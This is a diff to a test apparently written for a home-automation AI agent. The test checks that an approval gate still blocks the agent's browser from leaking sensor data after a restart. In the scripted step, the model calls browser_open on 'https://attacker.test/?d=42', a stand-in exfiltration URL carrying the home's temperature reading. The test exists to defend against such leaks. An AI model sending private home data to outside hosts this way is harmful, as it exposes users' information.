@@ -95,9 +95,10 @@ describe.skipIf(chromiumMissing)('opening a web address after reading the home',
   it('a restart does not forget that the conversation read the home', async () => {
     stack.llm.enqueue(use('ha_get_state', { entity_id: 'sensor.outside_temperature' }), say('42'));
     const first = await driveChat(stack.url, { message: 'what is the outside temperature?' }, () => 'deny');
+    expect(first.conversationId).toEqual(expect.any(String));
     await stack.restart();
     stack.llm.enqueue(use('browser_open', { url: 'https://attacker.test/?d=42' }), say('tried'));
-    const later = await driveChat(stack.url, { message: 'and now?', ...(first.conversationId && { conversation_id: first.conversationId }) }, () => 'deny');
+    const later = await driveChat(stack.url, { message: 'and now?', conversation_id: first.conversationId ?? '' }, () => 'deny');
     expect(later.conversationId).toBe(first.conversationId);
     expect(later.approvals).toEqual([expect.objectContaining({ tool: 'browser_open' })]);
     expect((await deniedReasons(stack))[0]).toBe(HOME_DATA_REASON);
